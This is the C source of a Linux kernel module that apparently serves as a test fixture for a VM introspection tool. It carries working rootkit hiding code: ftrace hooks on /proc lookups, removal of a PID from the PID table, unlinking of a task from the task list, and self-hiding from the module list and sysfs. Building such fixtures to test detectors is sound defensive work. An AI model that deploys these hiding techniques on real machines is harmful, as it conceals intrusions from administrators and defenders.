// SPDX-License-Identifier: GPL-2.0
/*
 * vmihide - TEST FIXTURE for vmitools, not a tool.
 *
 * Hides one process or this module itself inside a throw-away QEMU test guest, so that
 * vmitools' cross-view checks (task list vs. PID table vs. procfs vs. memory scan; module
 * list vs. sysfs vs. mod_tree) have a real hidden object to find. It is written for the
 * Debian 6.1 kernel (6.1.0-50-amd64) the test guests boot and is loaded only there, by
 * tests/hiding/boot-hiding-guest.py. Never load it on a machine you care about.
 *
 *   insmod vmihide.ko mode=MODE [pid=PID]
 *
 *   mode   kernel structure changed                       undone by rmmod
 *   a procfs    none: ftrace hooks on next_tgid() (readdir of /proc)     yes
 *               and proc_pid_lookup() (/proc/PID) skip the pid, whose
 *               cached /proc dentries are dropped
 *   b pidtable  init_pid_ns.idr: the pid's entry is removed, so          yes
 *               find_vpid(pid) is NULL (kill, /proc, ... see nothing)
 *   c tasklist  task_struct.tasks: unlinked from init_task.tasks         yes
 *   d modlist   module.list: unlinked from the `modules` list            no: rmmod finds no module
 *   e modsysfs  as d, and module.mkobj.kobj removed from sysfs           no
 *               (/sys/module/vmihide and its place in module_kset)
 *
 * Modes a-c need pid= (a thread-group leader in the initial pid namespace). Symbols the
 * kernel does not export (next_tgid, proc_flush_pid, pidmap_lock, tasklist_lock,
 * module_mutex) are found with kallsyms_lookup_name(), whose own address a kprobe
 * reveals (it has not been exported since 5.7). tests/hiding/README.md says what each
 * mode leaves visible.
 */
#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include <linux/ftrace.h>
#include <linux/idr.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/pid_namespace.h>
#include <linux/rculist.h>
#include <linux/sched.h>
#include <linux/sched/task.h>
#include <linux/spinlock.h>

static char *mode = "";
module_param(mode, charp, 0444);
MODULE_PARM_DESC(mode, "what to hide: a|procfs b|pidtable c|tasklist d|modlist e|modsysfs");
static int pid;
module_param(pid, int, 0444);
MODULE_PARM_DESC(pid, "process to hide (modes a-c)");

enum hide_mode { PROCFS, PIDTABLE, TASKLIST, MODLIST, MODSYSFS };
static const char *const mode_names[] = { "procfs", "pidtable", "tasklist", "modlist", "modsysfs" };
static enum hide_mode hide_mode;

/* ---- symbols the kernel does not export ------------------------------------------- */

static unsigned long (*lookup_name)(const char *name);

static int find_lookup_name(void)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	int ret = register_kprobe(&kp);

	if (ret < 0)
		return ret;
	/* Debian 6.1 has no X86_KERNEL_IBT, so kp.addr is the function's first byte. */
	lookup_name = (void *)kp.addr;
	unregister_kprobe(&kp);
	return 0;
}

static void *symbol(const char *name)
{
	void *addr = (void *)lookup_name(name);

	if (!addr)
		pr_err("symbol %s not found\n", name);
	return addr;
}

/*
 * procfs keeps a dentry for /proc/PID once anything has looked it up, and later lookups
 * are answered from the dcache without reaching proc_pid_lookup(). The victim usually
 * has made one itself: a static glibc program (busybox) reads /proc/self/exe at start.
 * Drop them the way release_task() does at exit; procfs makes new ones only through the
 * paths that modes a and b close.
 */
static void (*flush_pid_dentries)(struct pid *pid);	/* proc_flush_pid() */

/* ---- mode a: ftrace hooks on the /proc readdir and lookup paths ------------------- */

/* fs/proc/base.c, not in any header; 16 bytes, so returned in rax:rdx. */
struct tgid_iter {
	unsigned int tgid;
	struct task_struct *task;
};
static struct tgid_iter (*real_next_tgid)(struct pid_namespace *ns, struct tgid_iter iter);

/*
 * proc_pid_readdir() walks the pids with next_tgid() and creates a dentry for each pid it
 * gets back (proc_fill_cache) before emitting the name. Filtering here, before that
 * dentry exists, keeps a later lookup of /proc/PID from finding it in the dcache.
 */
static struct tgid_iter notrace hooked_next_tgid(struct pid_namespace *ns, struct tgid_iter iter)
{
	/* No sleeping in here: module exit waits for preempt-off sections to end. */
	preempt_disable();
	iter = real_next_tgid(ns, iter);
	while (iter.task && iter.tgid == pid) {
		/* next_tgid() drops the reference to iter.task itself. */
		iter.tgid += 1;
		iter = real_next_tgid(ns, iter);
	}
	preempt_enable();
	return iter;
}

/* What proc_pid_lookup() returns for a pid that has no task. */
static struct dentry *notrace no_such_pid(struct dentry *dentry, unsigned int flags)
{
	return ERR_PTR(-ENOENT);
}

struct hook {
	const char *name;
	struct ftrace_ops ops;
	unsigned long addr;
};

/* The ftrace callback runs at the entry of the hooked function, before its body. */
static void notrace readdir_hook(unsigned long ip, unsigned long parent_ip,
				 struct ftrace_ops *ops, struct ftrace_regs *fregs)
{
	/* Our own call to the real next_tgid() must not be redirected again. */
	if (!within_module(parent_ip, THIS_MODULE))
		ftrace_instruction_pointer_set(fregs, (unsigned long)hooked_next_tgid);
}

static void notrace lookup_hook(unsigned long ip, unsigned long parent_ip,
				struct ftrace_ops *ops, struct ftrace_regs *fregs)
{
	struct pt_regs *regs = ftrace_get_regs(fregs);
	const struct dentry *dentry;
	unsigned int nr;

	if (!regs)
		return;
	/* proc_pid_lookup(struct dentry *dentry, unsigned int flags): dentry in rdi. */
	dentry = (const struct dentry *)regs->di;
	if (kstrtouint(dentry->d_name.name, 10, &nr) == 0 && nr == pid)
		ftrace_instruction_pointer_set(fregs, (unsigned long)no_such_pid);
}

#define HOOK_FLAGS (FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_RECURSION | FTRACE_OPS_FL_IPMODIFY)
static struct hook hooks[] = {
	{ .name = "next_tgid", .ops = { .func = readdir_hook, .flags = HOOK_FLAGS } },
	{ .name = "proc_pid_lookup", .ops = { .func = lookup_hook, .flags = HOOK_FLAGS } },
};

static void unhook(int n)
{
	while (n-- > 0) {
		unregister_ftrace_function(&hooks[n].ops);
		ftrace_set_filter_ip(&hooks[n].ops, hooks[n].addr, 1, 0);
	}
	/* A caller still inside hooked_next_tgid() has preemption off: wait for it. */
	synchronize_rcu();
}

static int hide_from_procfs(void)
{
	struct pid *p;
	int i, ret;

	for (i = 0; i < ARRAY_SIZE(hooks); i++) {
		hooks[i].addr = (unsigned long)symbol(hooks[i].name);
		if (!hooks[i].addr)
			return -ENOENT;
	}
	flush_pid_dentries = symbol("proc_flush_pid");
	if (!flush_pid_dentries)
		return -ENOENT;
	real_next_tgid = (void *)hooks[0].addr;
	for (i = 0; i < ARRAY_SIZE(hooks); i++) {
		ret = ftrace_set_filter_ip(&hooks[i].ops, hooks[i].addr, 0, 0);
		if (ret) {
			pr_err("ftrace_set_filter_ip(%s) failed: %d\n", hooks[i].name, ret);
			goto fail;
		}
		ret = register_ftrace_function(&hooks[i].ops);
		if (ret) {
			pr_err("register_ftrace_function(%s) failed: %d\n", hooks[i].name, ret);
			ftrace_set_filter_ip(&hooks[i].ops, hooks[i].addr, 1, 0);
			goto fail;
		}
	}
	p = find_get_pid(pid);
	if (!p) {
		ret = -ESRCH;
		goto fail;
	}
	flush_pid_dentries(p);
	put_pid(p);
	return 0;
fail:
	unhook(i);
	return ret;
}

/* ---- mode b: remove the pid from the PID table (init_pid_ns.idr) ------------------ */

static spinlock_t *pidmap_lock;
static struct pid *hidden_pid;	/* our reference keeps it allocated */

/*
 * free_pid() at the task's exit calls idr_remove() for the number again, which is a
 * no-op for a missing entry, so the task may exit while hidden. Until pid_max wraps the
 * cyclic allocator does not hand the number out again.
 */
static int hide_from_pid_table(void)
{
	struct pid *p;

	pidmap_lock = symbol("pidmap_lock");
	flush_pid_dentries = symbol("proc_flush_pid");
	if (!pidmap_lock || !flush_pid_dentries)
		return -ENOENT;
	p = find_get_pid(pid);
	if (!p || p->level != 0 || !pid_has_task(p, PIDTYPE_PID)) {
		put_pid(p);
		return -ESRCH;
	}
	spin_lock_irq(pidmap_lock);
	idr_remove(&init_pid_ns.idr, pid);
	spin_unlock_irq(pidmap_lock);
	hidden_pid = p;
	flush_pid_dentries(p);
	return 0;
}

static void restore_pid_table(void)
{
	int ret = 0;

	idr_preload(GFP_KERNEL);
	spin_lock_irq(pidmap_lock);
	/* A task that exited meanwhile has detached from the pid: leave it out. */
	if (pid_has_task(hidden_pid, PIDTYPE_PID))
		ret = idr_alloc(&init_pid_ns.idr, hidden_pid, pid, pid + 1, GFP_ATOMIC);
	spin_unlock_irq(pidmap_lock);
	idr_preload_end();
	if (ret < 0)
		pr_err("could not put pid %d back: %d\n", pid, ret);
	put_pid(hidden_pid);
}

/* ---- mode c: unlink the task from the task list (init_task.tasks) ----------------- */

static rwlock_t *tasklist_lock_p;
static struct task_struct *hidden_task;	/* our reference keeps it allocated */

static int hide_from_task_list(void)
{
	struct task_struct *t;

	tasklist_lock_p = symbol("tasklist_lock");
	if (!tasklist_lock_p)
		return -ENOENT;
	rcu_read_lock();
	t = pid_task(find_vpid(pid), PIDTYPE_PID);
	if (t)
		get_task_struct(t);
	rcu_read_unlock();
	if (!t)
		return -ESRCH;
	if (!thread_group_leader(t)) {	/* only leaders are on the list */
		put_task_struct(t);
		return -EINVAL;
	}
	write_lock_irq(tasklist_lock_p);
	list_del_rcu(&t->tasks);
	write_unlock_irq(tasklist_lock_p);
	/*
	 * list_del_rcu() leaves a poisoned prev pointer, and release_task() would run
	 * list_del_rcu() on it again at exit (a crash). Once no RCU reader can be standing
	 * on the entry, let it point to itself: deleting that again is harmless.
	 */
	synchronize_rcu();
	write_lock_irq(tasklist_lock_p);
	INIT_LIST_HEAD(&t->tasks);
	write_unlock_irq(tasklist_lock_p);
	hidden_task = t;
	return 0;
}

static void restore_task_list(void)
{
	write_lock_irq(tasklist_lock_p);
	if (pid_alive(hidden_task))	/* not released meanwhile */
		list_add_tail_rcu(&hidden_task->tasks, &init_task.tasks);
	write_unlock_irq(tasklist_lock_p);
	put_task_struct(hidden_task);
}

/* ---- modes d and e: hide this module ------------------------------------------------ */

static int hide_module(bool from_sysfs)
{
	struct mutex *module_mutex_p = symbol("module_mutex");

	if (!module_mutex_p)
		return -ENOENT;
	/* /proc/modules, lsmod, kallsyms and find_module() (so rmmod) walk this list. */
	mutex_lock(module_mutex_p);
	list_del_rcu(&THIS_MODULE->list);
	mutex_unlock(module_mutex_p);
	synchronize_rcu();
	INIT_LIST_HEAD(&THIS_MODULE->list);
	/* Removes /sys/module/vmihide (with parameters/) and takes it out of module_kset. */
	if (from_sysfs)
		kobject_del(&THIS_MODULE->mkobj.kobj);
	return 0;
}

/* ---- load and unload ------------------------------------------------------------------ */

static int parse_mode(void)
{
	int i;

	for (i = 0; i < ARRAY_SIZE(mode_names); i++) {
		if ((mode[0] == 'a' + i && mode[1] == '\0') || !strcmp(mode, mode_names[i])) {
			hide_mode = i;
			return 0;
		}
	}
	pr_err("unknown mode '%s' (a|procfs b|pidtable c|tasklist d|modlist e|modsysfs)\n", mode);
	return -EINVAL;
}

static int __init vmihide_init(void)
{
	int ret = parse_mode();

	if (ret)
		return ret;
	if (hide_mode <= TASKLIST && pid <= 1) {
		pr_err("mode %s needs pid=PID (> 1)\n", mode_names[hide_mode]);
		return -EINVAL;
	}
	ret = find_lookup_name();
	if (ret) {
		pr_err("no kprobe on kallsyms_lookup_name: %d\n", ret);
		return ret;
	}
	switch (hide_mode) {
	case PROCFS:   ret = hide_from_procfs(); break;
	case PIDTABLE: ret = hide_from_pid_table(); break;
	case TASKLIST: ret = hide_from_task_list(); break;
	case MODLIST:  ret = hide_module(false); break;
	case MODSYSFS: ret = hide_module(true); break;
	}
	if (ret) {
		pr_err("mode %s failed: %d\n", mode_names[hide_mode], ret);
		return ret;
	}
	if (hide_mode <= TASKLIST)
		pr_info("test fixture: mode %s hides pid %d\n", mode_names[hide_mode], pid);
	else
		pr_info("test fixture: mode %s hides module %s\n", mode_names[hide_mode], THIS_MODULE->name);
	return 0;
}

/* Only modes a-c can get here: in d and e rmmod cannot find the module any more. */
static void __exit vmihide_exit(void)
{
	switch (hide_mode) {
	case PROCFS:   unhook(ARRAY_SIZE(hooks)); break;
	case PIDTABLE: restore_pid_table(); break;
	case TASKLIST: restore_task_list(); break;
	default: break;
	}
	pr_info("mode %s undone\n", mode_names[hide_mode]);
}

module_init(vmihide_init);
module_exit(vmihide_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("vmitools test fixture: hides a process or itself in a test guest");
